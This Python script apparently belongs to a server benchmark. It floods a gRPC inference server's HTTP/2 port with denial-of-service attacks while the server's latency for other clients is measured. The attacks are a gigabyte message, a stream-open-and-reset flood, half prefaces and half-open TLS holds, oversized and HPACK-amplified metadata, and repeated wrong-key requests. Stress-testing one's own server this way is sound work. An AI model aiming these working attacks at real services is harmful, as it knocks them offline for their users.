#!/usr/bin/env python3
"""Attacks a server's gRPC port until it is stopped: what bench/server.py measures others' latency beside.

  bench/grpc_attacks.py NAME PORT [KEY]

KEY: where the attacker has one, which its messages need to be read. Rates are fixed, as in bench/attacks.py.
"""
import itertools
import select
import sys
import time

from attacks import connect, hold_many, pace, send_often, whole

DATA, HEADERS, RESET, SETTINGS, PING, GO_AWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9  # RFC 9113, 6
END_STREAM, ACKNOWLEDGED, END_HEADERS = 1, 1, 4
LARGEST_FRAME = 1 << 14
GIGABYTE = 1 << 30
METHOD = b"/inference.GRPCInferenceService/ModelInfer"
STREAMS_A_SECOND = 2000
OPEN_STREAMS = 1000  # nearly as many as a connection may have
INDEXED = b"\xbe"  # the field that was added to the table last (RFC 7541, 6.1)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


HALF_PREFACE = b"PRI * HTTP/2.0\r\n"
PREFACE = HALF_PREFACE + b"\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def text(data):
    """A string of a header: its length, 7 bits in the first byte and 7 in each of the others, and itself."""
    size = len(data)
    if size < 127:
        return bytes([size]) + data
    size -= 127
    length = b"\x7f"
    while size >= 128:
        length += bytes([size % 128 + 128])
        size //= 128
    return length + bytes([size]) + data


def field(name, value, form=b"\0"):
    """Form: 0 is left out of the table, 0x40 added to it."""
    return form + text(name) + text(value)


def headers_of(key=""):
    fields = {b":method": b"POST", b":scheme": b"http", b":path": METHOD, b":authority": b"attack",
              b"content-type": b"application/grpc", b"te": b"trailers"}
    if key:
        fields[b"authorization"] = b"Bearer " + key.encode()
    return b"".join(itertools.starmap(field, fields.items()))


def open_stream(stream, headers, flags=0):
    """A header of any size, in as many frames as it takes."""
    parts = [headers[i:i + LARGEST_FRAME] for i in range(0, len(headers), LARGEST_FRAME)]
    return b"".join(frame(CONTINUATION if i else HEADERS, (END_HEADERS if i + 1 == len(parts) else 0)
                          | (0 if i else flags), stream, part) for i, part in enumerate(parts))


def message(data, size=None):
    """As gRPC frames it: not compressed, its size, and itself."""
    return b"\0" + (len(data) if size is None else size).to_bytes(4, "big") + data


class Window:
    """What a server lets us send: that of the connection and that of stream 1."""

    def __init__(self, client):
        self.client, self.read = client, b""
        self.bytes = {0: 65535, 1: 65535}

    def take_up(self, seconds):
        """What the server says within a time. Raises OSError where it has closed stream or connection."""
        if not select.select([self.client], [], [], seconds)[0]:
            return
        self.read += self.client.recv(1 << 16) or self.closed()
        while len(self.read) >= 9 and len(self.read) >= 9 + (size := int.from_bytes(self.read[:3], "big")):
            kind, flags, stream = self.read[3], self.read[4], int.from_bytes(self.read[5:9], "big")
            payload, self.read = self.read[9:9 + size], self.read[9 + size:]
            if kind == WINDOW_UPDATE and stream in self.bytes:
                self.bytes[stream] += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACKNOWLEDGED:
                self.set(payload)
                self.client.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
            elif kind == PING and not flags & ACKNOWLEDGED:
                self.client.sendall(frame(PING, ACKNOWLEDGED, 0, payload))
            elif kind == GO_AWAY or kind in (HEADERS, RESET) and stream == 1:
                self.closed()

    def set(self, settings):
        for i in range(0, len(settings), 6):
            if int.from_bytes(settings[i:i + 2], "big") == 4:  # initial window size
                self.bytes[1] += int.from_bytes(settings[i + 2:i + 6], "big") - 65535

    def closed(self):
        raise ConnectionError


def large_message(port, key):
    """As much of a message of a gigabyte as the server takes in ten seconds."""
    with connect(port) as client:
        client.sendall(PREFACE + open_stream(1, headers_of(key)) + frame(DATA, 0, 1, message(b"", GIGABYTE)))
        window, end = Window(client), time.monotonic() + 10
        window.take_up(1)
        left = GIGABYTE
        while left and time.monotonic() < end:
            size = min(LARGEST_FRAME, left, *window.bytes.values())
            if size > 0:
                client.sendall(frame(DATA, 0, 1, b"x" * size))
                left -= size
                for stream in window.bytes:
                    window.bytes[stream] -= size
            window.take_up(0.0 if size > 0 else 0.1)
        return GIGABYTE - left


def stream_flood(port):
    """On one connection, streams that never get a message, and behind them others that are taken back at once."""
    headers, turns = headers_of(), pace(STREAMS_A_SECOND)
    while True:
        try:
            with connect(port) as client:
                client.sendall(PREFACE)
                client.setblocking(False)
                for count, _ in enumerate(turns):
                    stream = 2 * count + 1
                    client.sendall(open_stream(stream, headers)
                                   + (frame(RESET, 0, stream, b"\0\0\0\x08") if count >= OPEN_STREAMS else b""))
                    try:
                        if not client.recv(1 << 16):
                            break
                    except BlockingIOError:
                        pass
        except OSError:
            pass  # it need not hear us out


def attack(name, port, key):
    if name == "grpc_large_message":
        for _ in pace(50):
            try:
                large_message(port, key)
            except OSError:
                pass
    elif name == "grpc_stream_flood":
        stream_flood(port)
    elif name == "grpc_half_preface":
        hold_many(port, HALF_PREFACE, b"")
    elif name == "grpc_half_open_tls":
        hold_many(port, b"\x16\x03\x01\x02\x00\x01", b"\0")
    elif name == "grpc_metadata":
        many = b"".join(field(b"x-%d" % i, b"y") for i in range(50_000))
        once = field(b"x", b"y" * 4000, b"\x40") + INDEXED * 100_000
        send_often(port, 50, *(whole(PREFACE + open_stream(1, headers_of() + more))
                               for more in (field(b"x", b"y" * 1_000_000), many, once)))
    elif name == "grpc_wrong_keys":
        end = frame(DATA, END_STREAM, 1, message(b""))
        send_often(port, 200, *(whole(PREFACE + open_stream(1, headers_of(wrong)) + end) for wrong in ("wrong", "")))
    else:
        sys.exit(f"there is no attack {name}")


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), "".join(sys.argv[3:]))
